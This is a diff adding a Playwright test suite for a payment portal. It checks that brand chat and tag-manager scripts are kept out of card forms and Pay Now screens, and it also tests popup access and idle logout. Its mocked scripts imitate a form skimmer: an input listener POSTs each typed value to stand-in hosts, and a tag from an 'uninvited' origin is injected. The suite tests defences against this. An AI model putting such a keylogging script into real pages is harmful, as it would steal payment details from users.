@@ -1,0 +1,252 @@
+import type { BrowserContext, Page } from "@playwright/test"
+import { expect, test } from "./fixtures.ts"
+
+declare global {
+  interface Window {
+    /** Set by a test, to tell one document from another. */
+    mark?: string
+    chatIsHere?: boolean
+  }
+}
+
+/** The brand names the chat's origin; the other one comes along uninvited. */
+const chat = "https://chat.example.com"
+const uninvited = "https://uninvited.example.net"
+
+/** What other hosts are asked, and what the browser prints of what the page's policy forbids. */
+const provoked = /asked another host: https:|printed: .*(Content Security Policy|example\.|google)/
+
+test.use({ expectedFaults: [provoked] })
+
+/** Answers for the outside world, and notes what it is asked and sent. */
+async function outside(context: BrowserContext): Promise<string[]> {
+  const asked: string[] = []
+  await context.route(
+    (url) => url.protocol === "https:",
+    async (route) => {
+      const request = route.request()
+      const { origin, pathname } = new URL(request.url())
+      asked.push(`${request.url()} ${request.postData() ?? ""}`)
+      const headers = { "access-control-allow-origin": "*", "access-control-allow-headers": "*" }
+      const body = scripts[`${origin}${pathname}`] ?? ""
+      await route.fulfill({ contentType: "text/javascript", headers, body })
+    },
+  )
+  return asked
+}
+
+/** The tag manager brings the chat and the uninvited one; that one copies all that is typed. */
+const scripts: Record<string, string> = {
+  "https://www.googletagmanager.com/gtm.js": `
+    for (const address of ["${chat}/chat.js", "${uninvited}/tag.js"]) {
+      const script = document.createElement("script")
+      script.src = address
+      document.head.append(script)
+    }`,
+  [`${chat}/chat.js`]: `
+    window.chatIsHere = true
+    fetch("${chat}/hello", { method: "POST", body: "hello" }).catch(() => {})
+    document.addEventListener("input", ({ target }) => {
+      fetch("https://www.google-analytics.com/g/collect", { method: "POST", body: target.value }).catch(() => {})
+      fetch("${chat}/typed", { method: "POST", body: target.value }).catch(() => {})
+    })`,
+}
+
+test.beforeEach(async ({ app }) => {
+  await app.ask("setBrandScripts", {
+    client: "harbor",
+    gtmId: "GTM-TEST",
+    headTags: [{ tag: "script", src: `${chat}/chat.js` }],
+    bodyScripts: [{ text: "window.bodyScriptRan = true" }],
+    scriptOrigins: [chat],
+    connectOrigins: [chat],
+  })
+})
+
+async function mark(page: Page, name: string) {
+  await page.evaluate((mark) => void Object.assign(window, { mark }), name)
+}
+
+async function marked(page: Page) {
+  return await page.evaluate(() => window.mark)
+}
+
+/** Whether anything of the brand's scripts runs in the document. */
+async function holdsBrandScripts(page: Page) {
+  return await page.evaluate(
+    () => "chatIsHere" in window || "bodyScriptRan" in window || "dataLayer" in window,
+  )
+}
+
+test("SCRIPT-01 a brand's scripts never reach a card form, and what is typed there goes to the gateway alone", async ({
+  page,
+  context,
+  login,
+  advance,
+}) => {
+  const asked = await outside(context)
+  await login("harbor", "maria.santos")
+  await advance({ seconds: 4 })
+  await expect.poll(() => page.evaluate(() => window.chatIsHere)).toBe(true)
+  await expect.poll(() => asked.some((one) => one.startsWith(`${chat}/hello`))).toBe(true)
+
+  await page.getByRole("link", { name: "Payment Center" }).filter({ visible: true }).click()
+  await page.getByRole("link", { name: "Payment Methods" }).filter({ visible: true }).click()
+  const add = page.getByRole("main").getByRole("button", { name: "Add Payment Method" })
+  await expect(add).toBeVisible()
+  asked.length = 0
+  await add.click()
+  const dialog = page.getByRole("dialog")
+  await dialog.getByText("Credit Card", { exact: true }).click()
+  await dialog.getByLabel("Credit Card Number").fill("4242 4242 4242 4242")
+  await dialog.getByLabel("CVV/CVC").fill("9174")
+  await advance({ seconds: 10 })
+  expect(asked).toEqual([])
+  expect(await holdsBrandScripts(page)).toBe(false)
+  expect(await page.locator("script[src^='https:']").count()).toBe(0)
+})
+
+test("SCRIPT-02 Pay Now opens in a document of its own with what was chosen, and Back and Forward lead over the border", async ({
+  page,
+  context,
+  login,
+}) => {
+  await outside(context)
+  await login("harbor", "maria.santos")
+  await page.getByRole("button", { name: "Pay Now" }).first().waitFor()
+  await mark(page, "dashboard")
+  expect(await holdsBrandScripts(page)).toBe(true)
+
+  await page.getByRole("button", { name: "Pay Now" }).first().click()
+  const payNow = page.getByRole("heading", { level: 1, name: "Pay Now" })
+  await expect(payNow).toBeVisible()
+  await expect(page.getByRole("main")).toContainText("4001930435")
+  expect(await marked(page)).toBeUndefined()
+  expect(await holdsBrandScripts(page)).toBe(false)
+  await expect.poll(() => page.evaluate(() => scrollY)).toBe(0)
+
+  await page.goBack()
+  await expect(page.getByRole("heading", { level: 1, name: "Welcome" })).toBeVisible()
+  await expect(page).toHaveURL(/\/dashboard$/)
+  expect(await holdsBrandScripts(page)).toBe(true)
+  await page.goForward()
+  await expect(payNow).toBeVisible()
+  await expect(page.getByRole("main")).toContainText("4001930435")
+  expect(await holdsBrandScripts(page)).toBe(false)
+
+  await page.getByRole("button", { name: "Submit Payment" }).click()
+  const authorization = page.getByRole("dialog", { name: "Payment Authorization" })
+  await authorization.getByRole("button", { name: "I Agree" }).click()
+  const paid = page.getByRole("dialog", { name: "Payment Successful" })
+  await paid.getByRole("button", { name: "Close" }).last().click()
+  await expect(page).toHaveURL(/\/dashboard$/)
+  await expect(page.getByRole("heading", { level: 1, name: "Welcome" })).toBeVisible()
+  expect(await holdsBrandScripts(page)).toBe(true)
+})
+
+test("SCRIPT-03 screens of one kind share a document, and a brand without scripts has one for all", async ({
+  page,
+  context,
+  login,
+}) => {
+  await outside(context)
+  await login("harbor", "maria.santos")
+  const go = async (name: string) => {
+    await page.getByRole("link", { name }).filter({ visible: true }).first().click()
+  }
+  await mark(page, "plain")
+  await go("Products")
+  await expect(page).toHaveURL(/\/products-main$/)
+  expect(await marked(page)).toBe("plain")
+  await go("Payment Center")
+  await page.getByRole("heading", { level: 1, name: "Payment Center" }).waitFor()
+  expect(await marked(page)).toBeUndefined()
+  await mark(page, "payment")
+  await go("Payment History")
+  await page.getByRole("heading", { level: 1, name: "Payment History" }).waitFor()
+  expect(await marked(page)).toBe("payment")
+})
+
+test("SCRIPT-03 a brand without scripts moves to Pay Now in the same document", async ({
+  page,
+  login,
+}) => {
+  await login("wayfarer", "lena.fischer")
+  await page.getByRole("button", { name: "Pay Now" }).first().waitFor()
+  await mark(page, "all")
+  await page.getByRole("button", { name: "Pay Now" }).first().click()
+  await expect(page.getByRole("heading", { level: 1, name: "Pay Now" })).toBeVisible()
+  expect(await marked(page)).toBe("all")
+  await page.goBack()
+  await expect(page).toHaveURL(/\/dashboard$/)
+  expect(await marked(page)).toBe("all")
+})
+
+test("SCRIPT-05 a tool works where the brand names its origin, and no other one does", async ({
+  page,
+  context,
+  site,
+  advance,
+}) => {
+  const asked = await outside(context)
+  await page.goto(site("harbor"))
+  await advance({ seconds: 4 })
+  await expect.poll(() => asked.some((one) => one.startsWith(`${chat}/hello`))).toBe(true)
+  await expect.poll(() => asked.some((one) => one.includes("gtm.js"))).toBe(true)
+  await expect.poll(() => page.locator(`script[src^="${uninvited}"]`).count()).toBe(1)
+  expect(asked.filter((one) => one.startsWith(uninvited))).toEqual([])
+  const refused = await page.evaluate(async (address) => {
+    return await fetch(address).then(
+      () => "sent",
+      () => "refused",
+    )
+  }, `${uninvited}/collect`)
+  expect(refused).toBe("refused")
+})
+
+test("SCRIPT-06 a brand's script cannot reach into a payment screen that it opens in a window", async ({
+  page,
+  context,
+  login,
+}) => {
+  await outside(context)
+  await login("harbor", "maria.santos")
+  const opened = context.waitForEvent("page")
+  await page.evaluate(() => {
+    Object.assign(window, { stolen: window.open("/payment-center/payment-methods") })
+  })
+  const popup = await opened
+  await popup.getByRole("heading", { level: 1, name: "Payment Methods" }).waitFor()
+  const seen = await page.evaluate(() => {
+    const { stolen } = window as unknown as { stolen: Window }
+    try {
+      return stolen.closed ? "closed" : stolen.document.body.textContent
+    } catch (error) {
+      return (error as Error).name
+    }
+  })
+  expect(seen).toBe("closed")
+  expect(await popup.evaluate(() => window.opener)).toBeNull()
+})
+
+test("SCRIPT-09 what is said at the end of a session is read on the other side of the border", async ({
+  page,
+  context,
+  login,
+  site,
+  advance,
+}) => {
+  await outside(context)
+  await login("harbor", "james.okafor")
+  await page.goto(`${site("harbor")}/payment-center/payment-history`)
+  await page.getByRole("heading", { level: 1, name: "Payment History" }).waitFor()
+  const loggedOut = page.waitForResponse("**/appauth/logout")
+  await advance({ minutes: 14, seconds: 55 })
+  await advance({ seconds: 6 })
+  expect((await loggedOut).status()).toBe(200)
+  await expect(page).toHaveURL(`${site("harbor")}/`)
+  await expect(page.getByText("You were logged out because you were away")).toBeVisible()
+  await page.reload()
+  await expect(page.getByRole("textbox", { name: "Username" })).toBeVisible()
+  await expect(page.getByText("You were logged out because you were away")).toBeHidden()
+})
